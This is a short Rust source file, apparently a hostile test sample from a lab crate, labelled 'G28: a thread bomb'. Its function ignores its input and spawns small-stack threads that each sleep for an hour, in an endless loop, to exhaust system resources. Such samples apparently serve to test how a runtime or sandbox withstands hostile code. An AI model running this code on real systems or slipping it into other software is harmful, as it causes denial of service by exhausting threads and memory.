// G28: a thread bomb.

use lab_80_hostile::Shop;

pub async fn errands(shops: Vec<Shop>) -> u64 {
    let _shops = shops;
    loop {
        let sleep = || std::thread::sleep(std::time::Duration::from_secs(3600));
        let _ = std::thread::Builder::new()
            .stack_size(64 << 10)
            .spawn(sleep);
    }
}
